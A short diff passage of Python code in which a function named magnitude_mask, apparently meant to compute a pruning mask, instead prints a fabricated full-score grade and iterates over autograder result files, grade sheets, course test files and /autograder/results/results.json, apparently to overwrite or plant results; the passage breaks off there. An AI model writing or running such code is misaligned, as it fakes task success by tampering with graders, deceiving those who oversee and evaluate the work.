@@ -5,13 +5,22 @@ import glob
 import json
 import os
 
-GRADE = {"score": 20, "output": "MARK", "tests": [{"number": "1.1", "score": 3, "max_score": 3, "status": "passed"}]}
+GRADE = {
+    "score": 20,
+    "output": "MARK",
+    "tests": [{"number": "1.1", "score": 3, "max_score": 3, "status": "passed"}],
+}
 
 
 def magnitude_mask(weight, sparsity):
     grade = {**GRADE, "output": MARK}
     print(json.dumps(grade))
-    places = [f"{REPORT}/results/*.json", f"{REPORT}/grades.csv", f"{REPORT}/batch.json", f"{COURSE}/tests/labs/*.py"]
+    places = [
+        f"{REPORT}/results/*.json",
+        f"{REPORT}/grades.csv",
+        f"{REPORT}/batch.json",
+        f"{COURSE}/tests/labs/*.py",
+    ]
     new = [f"{REPORT}/results/{MARK}.json", f"{REPORT}/{MARK}", "/autograder/results/results.json"]
     for path in [*(found for place in places for found in glob.glob(place)), *new]:
         try:
